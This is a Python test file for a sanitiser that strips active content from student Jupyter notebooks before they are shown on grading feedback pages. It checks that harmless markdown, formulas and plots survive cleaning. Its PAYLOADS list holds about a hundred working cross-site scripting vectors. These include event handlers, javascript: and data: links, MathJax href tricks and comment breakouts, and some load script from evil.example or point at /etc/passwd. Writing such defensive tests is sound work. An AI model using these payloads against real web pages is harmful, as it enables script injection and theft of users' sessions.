"""No script of a student reaches a page, and nothing harmless is lost on the way."""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Iterator
from copy import deepcopy
from functools import cache
from pathlib import Path
from typing import Any

import nbformat
import nbgrader
import pytest
from bs4 import BeautifulSoup, Tag
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from gradestone.page.sanitise import sanitise
from gradestone.page.sanitise.html import clean_html
from gradestone.page.sanitise.markdown import clean_markdown
from tests.attacks import pages as attacks_pages
from tests.thoroughness import one_in

Notebook = dict[str, Any]
FORMGRADER = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
BODY = {"feedback": '<div class="container" id="notebook-container">', "lab": "<main>"}
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "meta",
    "base",
    "link",
    "style",
    "svg",
    "math",
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='images/a.png' alt='\"><script>alert(1)</script>'>",
    '<img title="`" src="images/a.png" alt="`<script>alert(1)</script>">',
    "<b onmouseover=alert(1)>b</b>",
    "<b style='position:fixed;background:url(javascript:alert(1))'>b</b>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<title><script>alert(1)</script></title>",
    "<plaintext><script>alert(1)</script>",
    "</div></div></div></body><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "<\\script>alert(1)</script>",
    "<\\style onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]:\n javascript:alert(1)",
    "> [x]\n>\n> [x]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "onclick=alert(1) x=\\"")',
    '![a" onerror="alert(1)](x.png)',
    "[<script>alert(1)</script>](https://ok.example)",
    "# <script>alert(1)</script>",
    '# x" onclick="alert(1)',
    "| <script>alert(1)</script> | b |\n|---|---|\n| 1 | <img src=x onerror=alert(1)> |",
    "`` ` `` <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "~~~ mermaid\ngraph TD; A-->B; click A href 'javascript:alert(1)'\n~~~",
    "    <script>alert(1)</script>",
    "$<script>alert(1)</script>$",
    "$$</div><script>alert(1)</script>$$",
    "$ <a title=\"$ onmouseover='alert(1)' \">x</a>",
    "\\begin{x}<script>alert(1)</script>\\end{x}",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\\\href{javascript:alert(1)}{x}$",
    "$\\require{html}\\style{position:fixed}{x}$",
    "$\\hr<wbr>ef{javascript:alert(1)}{x}$",
    "$\\<wbr/>href{javascript:alert(1)}{x}$",
    "$\\hr<!-- -->ef{javascript:alert(1)}{x}$",
    "$\\bbox[position:fixed]{x}\\data{a=b}{x}\\htmlStyle{position:fixed}{x}$",
    "\\\\(\\mmlToken{mi}[href=javascript:alert(1)]{x}\\\\)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "{{ config }}{% raw %}<script>alert(1)</script>",
    "![x](attachment:missing.png)",
    "![x](attachment:../../secret)",
    "<img src='attachment:missing.png'>",
]


def code(outputs: list[dict[str, Any]], **fields: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "id": "c", "metadata": {}, "source": "1", "execution_count": 1}
    return cell | {"outputs": outputs} | fields


def shown(data: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return code([{"output_type": "display_data", "data": data, "metadata": {}} | fields])


def text_cell(kind: str, source: str) -> dict[str, Any]:
    return {"cell_type": kind, "id": "m", "metadata": {}, "source": source}


def everywhere(payload: str) -> list[dict[str, Any]]:
    """The payload in every place a page is made from."""
    error = {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload, payload]}
    texts = ("text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png")
    return [
        text_cell("markdown", payload),
        text_cell("raw", payload),
        code([], source=payload),
        code([{"output_type": "stream", "name": payload, "text": payload}, error]),
        *(shown({mime: payload}) for mime in texts),
    ]


def rare_places(payload: str) -> list[dict[str, Any]]:
    """Places a payload gets to only by hand."""
    widget = "application/vnd.jupyter.widget-view+json"
    kinds = ("text/vnd.mermaid", "image/jpeg", "application/javascript", "application/json", widget, payload)
    sizes = {"image/png": {"width": payload, "height": payload, "alt": payload}}
    return [
        *(shown({mime: payload}) for mime in kinds),
        shown({"image/png": PNG}, metadata=sizes),
        shown({"image/png": PNG}, metadata={"filenames": {"image/png": payload}}),
        shown({"text/html": "x"}, metadata={"text/html": {"isolated": True}}),
        code([], execution_count=payload),
        code([{"output_type": "execute_result", "data": {}, "metadata": {}, "execution_count": payload}]),
        code([{"output_type": payload, "text": payload}]),
    ]


def notebook_of(*cells: dict[str, Any]) -> Notebook:
    cells = tuple(cell | {"id": f"cell-{number}"} for number, cell in enumerate(deepcopy(cells)))
    return {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


@cache
def exporter(template: str) -> HTMLExporter:
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
    styles = next((FORMGRADER / "static").rglob("bootstrap.min.css")).parent  # elsewhere in each nbgrader
    config.HTMLExporter.extra_template_paths = [str(styles)]
    return HTMLExporter(config=config)


def page(notebook: Notebook, template: str = "feedback") -> Tag:
    """The part of the rendered page that holds the notebook, without the page's own head and scripts."""
    resources = {"nbgrader": {"notebook": "x", "score": 0, "max_score": 0, "late_penalty": 0}}
    text, _ = exporter(template).from_notebook_node(nbformat.from_dict(notebook), resources=resources)
    _, opening, body = text.partition(BODY[template])
    assert opening
    found = BeautifulSoup(opening + body, "html.parser").find(True)
    assert isinstance(found, Tag)
    return found


def active_parts(tree: Tag) -> Iterator[str]:
    for tag in tree.find_all(True):
        if tag.name in ACTIVE:
            yield str(tag)[:200]
        for name, value in tag.attrs.items():
            target = "".join(str(value).split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href"):
                yield str(tag)[:200]
            if name in ("href", "src", "action", "data") and target.startswith(
                ("javascript:", "vbscript:", "data:text", "data:image/svg+xml,", "file:")
            ):
                yield str(tag)[:200]
            if name == "style" and ("position" in target or "url(" in target):
                yield str(tag)[:200]


# ---------------------------------------------------------------- nothing active


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), 12))
def test_no_payload_is_active_on_the_feedback_page(first: int) -> None:
    cells = [cell for payload in PAYLOADS[first : first + 12] for cell in everywhere(payload)]
    assert list(active_parts(page(sanitise(notebook_of(*cells))))) == []


def test_no_payload_is_active_from_a_rare_place() -> None:
    cells = [cell for payload in PAYLOADS[::8] for cell in rare_places(payload)]
    assert list(active_parts(page(sanitise(notebook_of(*cells))))) == []


def test_no_payload_is_active_on_a_page_of_another_look() -> None:
    cells = [text_cell("markdown", payload) for payload in PAYLOADS]
    cells += [shown({"text/html": payload, "text/latex": payload}) for payload in PAYLOADS]
    assert list(active_parts(page(sanitise(notebook_of(*cells)), "lab"))) == []


def test_the_payloads_are_active_without_cleaning() -> None:
    """The test above would be worth nothing if it could not see them."""
    payloads = [payload for payload in PAYLOADS if "attachment:" not in payload]
    cells = [text_cell("markdown", payload) for payload in payloads]
    cells += [shown({"text/html": payload}) for payload in payloads]
    assert len(list(active_parts(page(notebook_of(*cells))))) > 30


STEERING = [payload for payload in PAYLOADS if re.search(r"href\{|ef\{|style|bbox|mmlToken", payload)]


def formulas(notebook: Notebook, look: str) -> list[str]:
    """What MathJax would make links and styles of."""
    return [part for part in attacks_pages.active_parts(str(page(notebook, look))) if "formula" in part]


@pytest.mark.parametrize("look", ["feedback", "lab"])
def test_no_formula_makes_a_link_or_a_style(look: str) -> None:
    cells = [cell for payload in STEERING for cell in everywhere(payload)]
    assert formulas(sanitise(notebook_of(*cells)), look) == []


def test_the_formulas_are_seen_without_cleaning() -> None:
    cells = [text_cell("markdown", payload) for payload in STEERING]
    cells += [shown({"text/html": payload}) for payload in STEERING]
    assert len(formulas(notebook_of(*cells), "feedback")) >= 6


def test_a_payload_leaves_no_element_open_that_could_swallow_the_page() -> None:
    cells = [text_cell("markdown", payload) for payload in PAYLOADS]
    cells += [shown({"text/html": payload}) for payload in PAYLOADS]
    container = page(sanitise(notebook_of(*cells, text_cell("markdown", "last *words*"))))
    last = container.find_all("div", class_="cell")[-1]
    assert last.find("em") is not None
    assert last.parent is container.find_all("div", class_="cell")[0].parent


def test_widget_state_in_the_metadata_goes() -> None:
    notebook = notebook_of() | {"metadata": {"widgets": {"x": "<script>"}, "kernelspec": {"name": "python3"}}}
    assert sanitise(notebook)["metadata"] == {"kernelspec": {"name": "python3"}}


FRAGMENTS = [
    *"<>&;:()[]!`$\\\n\t \"'/#=-",
    "script",
    "javascript:",
    "<b>",
    "</b>",
    "<img src=",
    "href",
    "&#106;",
    "onx=1",
]


@pytest.mark.parametrize("seed", one_in(4, range(8)))
def test_no_mixture_of_fragments_is_active(seed: int) -> None:
    random_ = random.Random(seed)
    texts = [
        "".join(random_.choices([*FRAGMENTS, *PAYLOADS[:60]], k=random_.randrange(1, 30))) for _ in range(40)
    ]
    cells = [text_cell("markdown", text) for text in texts]
    cells += [shown({"text/html": text, "text/markdown": text}) for text in texts]
    assert list(active_parts(page(sanitise(notebook_of(*cells))))) == []
    assert all(clean_markdown(clean_markdown(text)) == clean_markdown(text) for text in texts)


@pytest.mark.parametrize("unit", ["![", "<a ", "[", "<b>", "&", "](", "`", "\\\\[", "\\begin{a}", "$$", "> "])
def test_texts_made_to_be_slow_are_shown_as_plain_text(unit: str) -> None:
    text = (unit * 50_000)[:50_000]
    clean = clean_markdown(text)
    assert clean.startswith("```") and clean_markdown(clean) == clean
    assert page(notebook_of(text_cell("markdown", clean))).find("pre") is not None


# ---------------------------------------------------------------- nothing harmless lost


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\nSome *prose* with **weight**, a [link](https://ok.example/a?b=1&c=2#d) and `code < 3`.",
        "- one\n- two\n  1. three\n\n> quoted\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "$a < b$ and $$\\frac{1}{m} \\sum_{i=1}^{m} x^{(i)}$$",
        "\\begin{align} a &= b \\\\ c &= d \\end{align}",
        "```python\nif a < 3 and b > 4:\n    print('x' & 1)\n```",
        "![plot](images/plot.png) ![data](data:image/png;base64,AAAA) ![kept](attachment:kept.png)",
        '<img src="images/net.png" alt="a net" width="400">',
        "<table><tr><td>1</td></tr></table><br><sub>2</sub><center>3</center>",
        "&alpha; &lt;b&gt; &amp; &nbsp; AT&T",
        "The data: points; a dict {1: 2}; x[1:2]; time 12:30",
    ],
)
def test_ordinary_markdown_stays_to_the_letter(text: str) -> None:
    assert clean_markdown(text, attachments={"kept.png"}) == text


def test_a_formula_that_looks_like_a_tag_stays_a_formula() -> None:
    assert clean_markdown("$a<b$ and $p</q$") == "$a< b$ and $p< /q$"


def test_tags_are_written_anew_with_harmless_attributes_only() -> None:
    text = "<IMG SRC='images/a.png' onclick=x width=40 STYLE='color: red; position: fixed' id=y>"
    assert clean_markdown(text) == '<img src="images/a.png" width="40" style="color: red">'


def test_foreign_pictures_become_links() -> None:
    assert clean_markdown("![p](https://far.example/p.png)") == "! [p](https://far.example/p.png)"
    assert clean_html('<img src="https://far.example/p.png">') == "<img>"


def test_links_into_the_server_lead_nowhere() -> None:
    assert clean_markdown("[x](/hub/logout) [y](../../x)") == "[x](#/hub/logout) [y](#../../x)"


FRAME = (
    '<div><style scoped>.dataframe td {x: y}</style><table border="1" class="dataframe"><thead>'
    '<tr style="text-align: right;"><th></th><th>a</th></tr></thead>'
    "<tbody><tr><th>0</th><td>1.5</td></tr></tbody></table><p>1 rows × 1 columns</p></div>"
)


def test_tables_of_data_frames_keep_their_look() -> None:
    clean = clean_html(FRAME)
    assert '<table border="1" class="dataframe">' in clean and "<td>1.5</td>" in clean
    assert 'style="text-align: right"' in clean and "scoped" not in clean


def test_plots_and_their_sizes_stay() -> None:
    cell = shown(
        {"image/png": PNG, "text/plain": "<Figure size 640x480>"},
        metadata={"image/png": {"width": 640, "height": 480.5}, "needs_background": "light"},
    )
    [output] = sanitise(notebook_of(cell))["cells"][0]["outputs"]
    assert output["data"] == {"image/png": PNG, "text/plain": "<Figure size 640x480>"}
    assert output["metadata"] == {"image/png": {"width": 640, "height": 480.5}}


def test_a_picture_of_blanks_takes_no_longer_than_its_length_says() -> None:
    blanks = "\n" * 500_000 + "!"
    [output] = sanitise(notebook_of(shown({"image/png": blanks, "text/plain": "x"})))["cells"][0]["outputs"]
    assert output["data"] == {"text/plain": "x"}
    assert "<img" not in clean_html(f"<img src='data:image/png;base64,{blanks}'>").replace("<img>", "")


def test_drawings_are_shown_as_pictures() -> None:
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="5"/><script>alert(1)</script></svg>'
    [output] = sanitise(notebook_of(shown({"image/svg+xml": drawing})))["cells"][0]["outputs"]
    assert output["data"].keys() == {"text/html"}
    image = BeautifulSoup(output["data"]["text/html"], "html.parser").find("img")
    assert isinstance(image, Tag)
    assert base64.b64decode(str(image["src"]).partition(",")[2]).decode() == drawing


def test_unknown_types_leave_their_text_or_a_word() -> None:
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}}
    cells = [shown(widget | {"text/plain": "IntSlider()"}), shown(widget)]
    first, second = (cell["outputs"][0]["data"] for cell in sanitise(notebook_of(*cells))["cells"])
    assert first == {"text/plain": "IntSlider()"}
    assert second == {"text/plain": "[an output of a type that is not shown]"}


def test_streams_and_tracebacks_keep_their_text() -> None:
    outputs = [
        {"output_type": "stream", "name": "stderr", "text": ["a <b>\n", "c"]},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[31mE\x1b[0m: <v>"]},
    ]
    clean = sanitise(notebook_of(code(outputs)))["cells"][0]["outputs"]
    assert clean == [outputs[0] | {"text": "a <b>\nc"}, outputs[1]]


def test_the_instructors_markdown_stays_to_the_letter_if_told_so() -> None:
    source = "<video src=x></video> $a<b$ <!-- note -->"
    notebook = notebook_of(text_cell("markdown", source), text_cell("markdown", source + " "))
    first, second = sanitise(notebook, trusted={source})["cells"]
    assert first["source"] == source and second["source"] != source


def test_raw_cells_are_shown_as_text() -> None:
    [cell] = sanitise(notebook_of(text_cell("raw", "a ``` b\n<hr>")))["cells"]
    assert cell["cell_type"] == "markdown"
    assert cell["source"].startswith("````text\n") and cell["source"].endswith("\n````")


def test_the_notebook_given_is_not_changed_and_the_result_is_valid() -> None:
    notebook = notebook_of(*(cell for payload in PAYLOADS[:10] for cell in everywhere(payload)))
    before = deepcopy(notebook)
    clean = sanitise(notebook)
    assert notebook == before
    nbformat.validate(nbformat.from_dict(clean))
    assert sanitise(clean) == clean
